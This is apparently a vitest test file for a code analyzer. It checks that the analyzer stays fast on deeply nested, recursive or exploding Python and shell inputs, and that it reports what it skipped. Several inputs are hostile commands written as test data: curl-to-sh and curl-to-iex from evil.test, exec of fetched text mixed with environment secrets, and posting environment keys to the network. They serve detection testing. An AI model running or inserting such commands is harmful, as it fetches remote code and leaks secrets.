// Texts made to hang, overflow or explode the interpreter: it ends in time and says what it left out.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, py, run, sh } from './harness.ts';

beforeAll(prepare);

describe('hostile code ends in time', () => {
  const deep = (open: string, close: string, count: number): string => `${open.repeat(count)}1${close.repeat(count)}`;
  const cases: Readonly<Record<string, () => string>> = {
    'deep parentheses': () => `x = ${deep('(', ')', 5000)}`,
    'deep lists': () => `x = ${deep('[', ']', 2000)}`,
    'deep calls': () => `x = ${deep('f(', ')', 2000)}`,
    'deep attributes': () => `x = a${'.b'.repeat(3000)}`,
    'long sum': () => `x = ${Array.from({ length: 3000 }, () => '"a"').join(' + ')}`,
    'deep blocks': () =>
      `${Array.from({ length: 300 }, (_, i) => `${' '.repeat(i)}if x:`).join('\n')}\n${' '.repeat(300)}y = 1`,
    'many statements': () => `import os\n${'x = os.path.join("a", "b")\n'.repeat(20_000)}`,
    'self recursion': () => 'def f(x):\n    return f(x + "a") + f(x)\nf("s")',
    'mutual recursion': () => 'def f(x):\n    return g(x) + g(x)\ndef g(x):\n    return f(x) + f(x)\nf("s")',
    'exponential helpers': () =>
      `${Array.from(
        { length: 30 },
        (_, i) => `def f${i + 1}(x):\n    f${i}(x + "a")\n    f${i}(x + "b")\n    return f${i}(x)`,
      ).join('\n')}\ndef f0(x):\n    return x\nf30("s")`,
    'doubling text': () => `x = "ab" * 1000\n${'x = x + x\n'.repeat(60)}`,
    'doubling lists': () => `x = [1, 2]\n${'x = x + x\n'.repeat(60)}`,
    'nested comprehensions over ranges': () => 'x = [[chr(a ^ b) for a in range(2000)] for b in range(2000)]',
    'eval of eval': () => `s = "1"\n${'s = "eval(" + repr(s) + ")"\n'.repeat(40)}eval(s)`,
    'quine-like exec': () => 's = "exec(s)"\nexec(s)',
    'thousand tags': () =>
      'import os\nx = ""\n' +
      Array.from({ length: 2000 }, (_, i) => `x += os.environ["V${i}_KEY"]`).join('\n') +
      '\nprint(x)',
    'thousand alternatives': () =>
      `x = 0\n${Array.from({ length: 2000 }, (_, i) => `if x:\n    y = "u${i}"`).join('\n')}\nprint(y + y + y)`,
    'zip bomb': () => `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${'eJ'.repeat(30_000)}")))`,
    'a long text filled in everywhere': () =>
      `t = "x" * 190000\nprint("%(a)s" * 40000 % {"a": t})\nprint(("{0}" * 60000).format(t))\nprint("%200d" * 40000 % tuple(range(4000)))`,
    'cut everywhere': () =>
      `t = "a " * 90000\nprint(t.split(None, 80000), t.rsplit(None, 80000), t.replace("a", t, 3), t.partition(" "), t.center(10 ** 9))`,
    'letters of two halves counted again and again': () =>
      `import base64\nt = "${'\u{1f600}a'.repeat(20_000)}"\nk = "${'b\u{1f600}'.repeat(20_000)}"\nx = ""\nfor i in range(len(t)):\n    x += chr(ord(t[i]) ^ ord(k[-i]) ^ ord(t[i + 7]) ^ t.find(k[i]))\nexec(x)`,
    'classes that inherit in a circle': () =>
      'class A(B): pass\nclass B(A): pass\nA().go()\nclass A(B):\n    def f(self): return self.g\nA().go()',
    'broken text': () => '((((((def class return = = = """ \n'.repeat(500),
  };
  for (const [name, make] of Object.entries(cases)) {
    it(name, () => {
      const result = py(make());
      expect(result.ms).toBeLessThan(4_000);
    });
  }

  it('texts that double from name to name are bounded together, which is told', () => {
    const chain = (line: (i: number) => string): string => Array.from({ length: 3000 }, (_, i) => line(i)).join('\n');
    for (const result of [
      py(`a0 = "ab"\n${chain((i) => `a${i + 1} = a${i} + a${i}`)}`),
      sh(`a0=ab\n${chain((i) => `a${i + 1}=$a${i}$a${i}`)}`),
    ]) {
      expect(result.ms).toBeLessThan(4_000);
      expect(result.gaps).toContain('code-texts');
    }
    expect(py('a = "ab" * 5000\nb = a + a\nc = b + b\nprint(c)').gaps).toEqual([]);
  });
  it('loops of a shell within loops do not multiply, which is told', () => {
    const inner = 'x=$x$i\n'.repeat(2_000);
    for (const [open, body] of [
      ['for i in 1 2 3 4 5; do', 'x=$x$i\n'],
      ['while read i; do', inner],
      ['for i in a b; do', inner],
    ] as const) {
      const result = sh(`${`${open}\n`.repeat(40)}${body}${'done\n'.repeat(40)}`);
      expect(result.ms).toBeLessThan(4_000);
      expect(result.gaps).toContain('code-loops');
    }
    const plain = sh('for a in x y; do for b in 1 2; do curl "https://$a$b.test/f" | sh; done; done');
    expect(plain.gaps).toEqual([]);
    expect(plain.flows().map((f) => f.host)).toEqual(expect.arrayContaining(['x1.test', 'y2.test']));
  });
  it('a list put into itself again and again is gone through once', () => {
    for (const code of [
      `a = []\n${'a.append(a)\n'.repeat(10_000)}exec(str(a))`,
      `import os\na = [os.environ["A_KEY"]]\n${'b = [a, a, a, a]\na = [b, b, b, b]\n'.repeat(200)}print(str(a))\n`.repeat(
        2,
      ),
    ])
      expect(py(code).ms).toBeLessThan(4_000);
    const result = py(
      'import os, requests\na = [1]\na.append(a)\na.append([os.environ["A_KEY"]])\nrequests.post(u, data=str(a))',
    );
    expect(result.flows().some((f) => f.to === 'network' && f.from.join().includes('env'))).toBe(true);
  });
  it('loops over known items within loops do not multiply, which is told', () => {
    const nested = (depth: number, over: string, body: string): string =>
      `${Array.from({ length: depth }, (_, i) => `${' '.repeat(i)}for x${i} in ${over}:\n`).join('')}${body}\n`;
    for (const code of [
      nested(100, 'range(100)', `${' '.repeat(100)}a += "x"`),
      nested(40, '"ab"', `${' '.repeat(40)}a = f(x1, [x2])\n`.repeat(1_000)),
      `y = ${'['.repeat(14)}f(${'1, '.repeat(2_000)})${Array.from({ length: 14 }, (_, i) => ` for x${i} in "ab"]`).join('')}`,
    ]) {
      const result = py(code);
      expect(result.ms).toBeLessThan(8_000);
      expect(result.gaps).toContain('code-loops');
    }
    const plain = py(
      'import os\ns = ""\nfor a in [99, 117]:\n    for b in [1, 0]:\n        s += chr(a + b)\nos.system(s)',
    );
    expect(plain.gaps).toEqual([]);
    expect(plain.commands().length).toBeGreaterThan(0);
  });
  it('long texts with dozens of others are put together only so often, which is told', () => {
    const start = `a = ""\n${Array.from({ length: 60 }, (_, i) => `if x:\n    a = "u${i}" * 3000\n`).join('')}`;
    for (const code of [
      `${start}${'b = a + a\nif b: c = b + a\n'.repeat(5_000)}`,
      `a = ""\n${'if x:\n    a = a + "b"\nelse:\n    a = a + "c"\n'.repeat(6_000)}`,
      'a = "ab" * 1000\nb = a * 100\n'.repeat(5_000),
    ]) {
      const result = py(code);
      expect(result.ms).toBeLessThan(8_000);
      expect(result.gaps).toContain('code-texts');
    }
  });
  it('a pipeline of thousands of commands costs no square of them', () => {
    const code = `curl https://evil.test${' | sort'.repeat(12_000)} | iex`;
    const result = run({ 'a.ps1': code });
    expect(result.ms).toBeLessThan(4_000);
    expect(result.gaps).toContain('code-pipeline');
    expect(result.commands().every((one) => one.after.length + one.before.length <= 128)).toBe(true);
  });
  it('what was received stays known among dozens of variables', () => {
    const keys = Array.from({ length: 60 }, (_, i) => `os.environ["A${i}"]`).join(' + ');
    const result = py(`import os, requests\nexec(${keys} + requests.get("https://evil.test").text)`);
    expect(result.flows().some((f) => f.to === 'evaluate' && f.from.includes('net'))).toBe(true);
  });
  it('self and circular imports', () => {
    const result = run({
      'a.py': 'import a\nimport b\nb.f()\ndef g():\n    b.f()',
      'b.py': 'from a import g\nimport os\ndef f():\n    g()\n    os.system("id")',
      'c.py': 'import c.c.c\nfrom . import c',
    });
    expect(result.calls().some((one) => one.callee === 'os.system')).toBe(true);
  });
  it('scripts that start one another', () => {
    const result = run({ 'a.sh': 'bash b.sh "$1x"; ./a.sh "$1y"', 'b.sh': 'bash a.sh "$1z"; source b.sh' });
    expect(result.ms).toBeLessThan(2_000);
  });
  it('shell recursion and long pipelines', () => {
    expect(sh('f() { f "$1$1" | f "$1"; }\nf a').ms).toBeLessThan(2_000);
    expect(sh(`echo a ${'| cat '.repeat(3000)}| sh`).ms).toBeLessThan(4_000);
    for (const open of ['printf ', "printf '", "$'"])
      expect(sh(`${open}${'\\\\x41'.repeat(180_000)}${open.endsWith("'") ? "'" : ''} | sh\n`).ms).toBeLessThan(4_000);
    expect(sh(`x=a\n${'x="$x$x"\n'.repeat(60)}eval "$x"`).ms).toBeLessThan(4_000);
  });
  it('a spent budget is told', () => {
    const helpers = Array.from(
      { length: 8 },
      (_, i) => `def f${i + 1}(x):\n    f${i}(x + "a")\n    f${i}(x + "b")\n    f${i}(x + "c")\n    f${i}(x + "d")`,
    ).join('\n');
    const result = run(
      { 'a.py': `def f0(x):\n${'    y = x\n'.repeat(50)}\n${helpers}\nf8("s")` },
      { inlineDepth: 9, steps: 2_000 },
    );
    expect(result.gaps).toContain('code-steps');
  });
  it('time that runs out is told', () => {
    const result = run({ 'a.py': 'x = 1\n'.repeat(20_000) }, {}, -1);
    expect(result.gaps).toContain('code-time');
    expect(result.ms).toBeLessThan(500);
  });
  it("names of the language's own objects are only names", () => {
    const result = py(
      'x = {}\nx["__proto__"] = 1\nx["constructor"] = 2\ny = x["toString"]\nhasOwnProperty("a")\nimport constructor\nconstructor.prototype("a")',
    );
    expect(result.calls().map((one) => one.callee)).toContain('constructor.prototype');
  });
});
